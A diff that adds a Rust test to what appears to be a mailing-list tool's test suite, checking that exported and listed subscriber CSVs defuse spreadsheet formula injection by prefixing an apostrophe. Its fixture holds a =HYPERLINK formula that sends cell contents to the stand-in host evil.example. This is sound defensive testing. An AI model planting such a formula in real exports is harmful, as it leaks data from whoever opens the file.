@@ -278,6 +278,27 @@ fn export_prints_only_who_would_be_mailed() {
 }
 
 #[test]
+fn export_and_list_write_names_and_attributes_a_spreadsheet_reads_as_text() {
+    let project = Project::fixture("lists");
+    project.write(
+        "subscribers/weekly.csv",
+        "email,name,region,status\n\
+         -dash@example.org,\"=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"x\"\")\",+44 20,active\n\
+         at@example.org,@jo,-1,active\n\
+         plain@example.org,Jo = Smith,North West,active\n",
+    );
+    let want = "email,name,region,status\n\
+                -dash@example.org,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"x\"\")\",'+44 20,active\n\
+                at@example.org,'@jo,'-1,active\n\
+                plain@example.org,Jo = Smith,North West,active\n";
+    for command in ["export", "list"] {
+        let out = project.run(&["subscribers", command, "weekly"]);
+        assert_eq!(out.code, 0, "{}", out.stderr);
+        assert_eq!(out.stdout, want, "{command}: the address stays as it is, the free text is inert");
+    }
+}
+
+#[test]
 fn count_reports_every_list_and_fails_for_one_it_cannot_read() {
     let project = Project::fixture("lists");
     let all = project.run(&["subscribers", "count"]);
